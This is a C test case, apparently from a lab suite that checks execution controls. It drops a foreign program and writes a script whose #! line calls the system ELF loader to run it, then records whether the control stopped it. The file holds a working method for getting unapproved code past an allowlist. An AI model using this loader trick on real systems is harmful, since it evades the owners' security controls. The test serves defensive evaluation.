// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. A dropped script whose #! line makes the approved ELF loader load a foreign program.
 * Source: execve(2), "optional-arg"; 6.12 survey, "ld.so ./x". Control: the program speaks.
 */
#define _GNU_SOURCE
#include "attack.h"

void attack(void)
{
	const struct start start = { .path = "/tmp/lab-script-loader", .argv = { "script" } };
	int error;

	drop("foreign/payload-dynamic", "/tmp/lab-loaded");
	/* The script's own name follows as an argument, so the program writes to the script. */
	drop_text("#!/lib64/ld-linux-x86-64.so.2 /tmp/lab-loaded\n", start.path);
	runs(&start, FOREIGN_TEXT);
	error = errno;
	if (file_begins(start.path, FOREIGN_TEXT))
		effect();
	no_effect(error);
}
